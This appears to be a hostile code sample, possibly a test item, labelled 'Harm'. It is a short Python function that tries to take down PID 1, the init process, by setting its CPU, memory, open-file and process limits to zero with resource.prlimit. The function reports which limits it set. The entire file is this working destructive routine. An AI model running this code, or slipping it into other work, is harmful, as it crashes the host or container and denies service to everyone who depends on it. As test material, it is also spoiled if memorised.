# Harm: ends PID 1, its sibling in rights, through its resource limits instead of a signal.
import resource


def answer():
    harm = []
    for name in ("CPU", "AS", "NOFILE", "NPROC"):
        try:
            resource.prlimit(1, getattr(resource, "RLIMIT_" + name), (0, 0))
            harm.append(f"set {name} of PID 1")
        except OSError:
            pass
    return harm
